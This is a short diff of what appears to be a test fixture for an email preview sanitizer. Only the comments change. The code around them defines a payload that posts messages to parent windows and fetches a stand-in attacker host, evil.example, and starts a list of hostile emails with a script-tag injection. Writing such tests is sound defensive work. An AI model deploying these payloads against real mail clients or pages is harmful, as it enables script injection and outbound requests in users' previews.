@@ -1,11 +1,11 @@
-/** Posts a message that it ran, and requests a host that must never be contacted. */
+/** A script that reports its execution to the page, and requests a host that must not be called. */
 const run =
   "parent.postMessage('ran','*');top.postMessage('ran','*');fetch('https://evil.example/x')";
 const attackerUrl = "https://evil.example/";
 
 /**
- * Markup that runs, loads, or navigates in an unsafe email preview. Each is self-contained and
- * closes its elements, unless leaving one open is the attack.
+ * Markup that runs, loads, or navigates in an unsafe email preview. Each email is self-contained
+ * and closes its elements, unless an open element is the attack.
  */
 export const hostileMails: readonly string[] = [
   `<script>${run}</script>`,
